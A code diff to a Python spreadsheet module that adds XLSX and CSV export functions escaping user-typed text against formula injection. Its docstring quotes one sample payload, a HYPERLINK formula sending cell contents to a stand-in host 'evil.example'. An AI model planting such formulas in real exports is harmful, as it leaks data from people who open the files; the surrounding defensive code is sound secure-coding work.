@@ -1,4 +1,5 @@
-"""Read uploaded spreadsheets (.csv, .xlsx) the way organizers actually produce them.
+"""Read uploaded spreadsheets (.csv, .xlsx) the way organizers actually produce them, and
+write every export (.xlsx, .csv) the way an office opens it.
 
 Participant lists and survey answers come from Excel: "CSV UTF-8" exports with a BOM, ``;`` as
 separator (Indonesian regional settings use the decimal comma) and CRLF; older exports in
@@ -7,6 +8,12 @@ into one shape — header keys and rows of strings with the spreadsheet's own ro
 that the row validators (people, SKM) can speak about "baris 7" exactly as the organizer sees
 it. It never guesses lost digits: a NIP that Excel stored as a float comes back in scientific
 notation so the validator can explain the problem.
+
+Writing (:func:`xlsx_bytes`, :func:`csv_bytes`) is the one home for exports, because every
+export carries text that people typed (names, jabatan, titles): a name such as
+``=HYPERLINK("http://evil.example/?d="&A2,"Klik")`` must stay a name, never become a live
+formula (CWE-1236). XLSX text cells are written as explicit strings; CSV text cells starting
+with ``= + - @``, a tab or a CR get a leading ``'`` (OWASP's advice for CSV injection).
 """
 
 import contextlib
@@ -16,10 +23,10 @@ import re
 import unicodedata
 import warnings
 import zipfile
-from collections.abc import Generator, Iterable
+from collections.abc import Generator, Iterable, Sequence
 from datetime import date, datetime, time
 from decimal import Decimal
-from typing import Any
+from typing import Any, Literal
 
 import msgspec
 
@@ -382,3 +389,173 @@ def _cell_text(value: Any) -> str:
     if isinstance(value, date | time):
         return value.isoformat()
     return _clean(str(value))
+
+
+# --- Writing --------------------------------------------------------------------------------
+
+XLSX_MEDIA_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+CSV_MEDIA_TYPE = "text/csv"
+"""Litestar appends ``; charset=utf-8`` to ``text/*`` itself."""
+
+FileFormat = Literal["xlsx", "csv"]
+"""The ``?format=`` of a report download other than JSON."""
+CellKind = Literal["text", "integer", "decimal", "percent", "date"]
+_NUMBER_FORMATS: dict[str, str] = {
+    "integer": "0",
+    "decimal": "#,##0.00",
+    "percent": '0.00" %"',
+    "date": "dd-mm-yyyy",
+}
+_FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+"""First characters that make Excel, LibreOffice or Sheets read a CSV cell as a formula."""
+
+
+class Column(msgspec.Struct, frozen=True):
+    """One column of an export.
+
+    Attributes:
+        title: The header text.
+        width: Excel column width in characters.
+        kind: How values are written: ``text`` always as a string (never a formula), numbers
+            with an Excel number format (``percent`` takes values already in percent, e.g.
+            ``33.33``), ``date`` as a real date shown ``dd-mm-yyyy``.
+    """
+
+    title: str
+    width: float = 14
+    kind: CellKind = "text"
+
+
+class Sheet(msgspec.Struct, frozen=True):
+    """One worksheet: a title block (the office's kop, the report's name), then a frozen,
+    filterable header row and the data rows.
+
+    Attributes:
+        name: The sheet tab (at most 31 characters, Excel's limit).
+        columns: The columns, in order.
+        rows: Values per row, in column order; ``None`` is an empty cell.
+        title: Lines above the header (kop text, report title, period); may be empty.
+    """
+
+    name: str
+    columns: Sequence[Column]
+    rows: Sequence[Sequence[Any]]
+    title: Sequence[str] = ()
+
+
+def csv_safe(text: str) -> str:
+    """``text`` as a CSV cell that no spreadsheet reads as a formula (a leading ``'``)."""
+    return "'" + text if text.startswith(_FORMULA_TRIGGERS) else text
+
+
+def xlsx_bytes(sheets: Sequence[Sheet]) -> bytes:
+    """An .xlsx workbook with one sheet per :class:`Sheet`.
+
+    Every text value is written as an explicit string cell, whatever it starts with; numbers
+    and dates keep their type and get the column's number format; the header row is bold,
+    frozen and carries an auto-filter over the data; column widths are set.
+    """
+    # Imported here: openpyxl is only needed when an export is asked for.
+    from openpyxl import Workbook
+    from openpyxl.cell import WriteOnlyCell
+    from openpyxl.styles import Font
+    from openpyxl.utils import get_column_letter
+
+    workbook = Workbook(write_only=True)
+    bold = Font(bold=True)
+    title_font = Font(bold=True, size=12)
+    for spec in sheets:
+        sheet = workbook.create_sheet(spec.name[:31])
+        for index, column in enumerate(spec.columns, start=1):
+            sheet.column_dimensions[get_column_letter(index)].width = column.width
+        header_row = len(spec.title) + (1 if spec.title else 0) + 1
+        last = get_column_letter(max(len(spec.columns), 1))
+        # Both must be set before the first row in write-only mode.
+        sheet.freeze_panes = f"A{header_row + 1}"
+        sheet.auto_filter.ref = f"A{header_row}:{last}{header_row + max(len(spec.rows), 1)}"
+        for line in spec.title:
+            sheet.append([_text_cell(WriteOnlyCell(sheet), line, title_font)])
+        if spec.title:
+            sheet.append([])
+        sheet.append(
+            [_text_cell(WriteOnlyCell(sheet), column.title, bold) for column in spec.columns]
+        )
+        for values in spec.rows:
+            sheet.append(
+                [
+                    _typed_cell(WriteOnlyCell(sheet), column, value)
+                    for column, value in zip(spec.columns, values, strict=False)
+                ]
+            )
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    return buffer.getvalue()
+
+
+def _text_cell(cell: Any, text: str, font: Any = None) -> Any:
+    cell.value = text
+    # openpyxl marks a value starting with "=" as a formula; a string cell is written as text.
+    cell.data_type = "s"
+    if font is not None:
+        cell.font = font
+    return cell
+
+
+def _typed_cell(cell: Any, column: Column, value: Any) -> Any:
+    if value is None or value == "":
+        return cell
+    if column.kind == "text" or isinstance(value, str):
+        return _text_cell(cell, str(value))
+    if isinstance(value, datetime):
+        value = value.replace(tzinfo=None)
+    cell.value = value
+    cell.number_format = _NUMBER_FORMATS[column.kind]
+    return cell
+
+
+def csv_bytes(
+    columns: Sequence[Column] | Sequence[str],
+    rows: Iterable[Sequence[Any]],
+    *,
+    separator: str = ";",
+) -> bytes:
+    """A CSV that Excel opens in columns in an Indonesian locale: ``;``-separated, UTF-8 with
+    a BOM, CRLF, decimal comma, dates ``DD-MM-YYYY``; text cells are :func:`csv_safe`.
+
+    Args:
+        columns: The columns (or plain header names, then every cell is treated by its type).
+        rows: Values per row, in column order; ``None`` is an empty cell.
+        separator: ``;`` for people; ``,`` only for machines that insist on it.
+    """
+    buffer = io.StringIO()
+    writer = csv.writer(buffer, delimiter=separator, lineterminator="\r\n")
+    titles = [c.title if isinstance(c, Column) else c for c in columns]
+    writer.writerow([csv_safe(title) for title in titles])
+    decimal_comma = separator != ","
+    for values in rows:
+        writer.writerow([_csv_value(value, decimal_comma) for value in values])
+    return ("\ufeff" + buffer.getvalue()).encode("utf-8")
+
+
+def _csv_value(value: Any, decimal_comma: bool) -> str:
+    if value is None:
+        return ""
+    if isinstance(value, bool):
+        return "Ya" if value else "Tidak"
+    if isinstance(value, int):
+        return str(value)
+    if isinstance(value, float | Decimal):
+        text = format(value, "f") if isinstance(value, Decimal) else repr(value)
+        return text.replace(".", ",") if decimal_comma else text
+    if isinstance(value, datetime):
+        return value.strftime("%d-%m-%Y %H:%M")
+    if isinstance(value, date):
+        return value.strftime("%d-%m-%Y")
+    return csv_safe(str(value))
+
+
+def write_xlsx(title: str, header: list[str], rows: Iterable[list[Any]]) -> bytes:
+    """A one-sheet workbook of text columns (the class-account slips): :func:`xlsx_bytes`, so
+    an 18-digit NIP stays text and nothing is ever a formula."""
+    columns = [Column(name, width=max(14.0, len(name) + 4.0)) for name in header]
+    return xlsx_bytes([Sheet(name=title, columns=columns, rows=[list(r) for r in rows])])
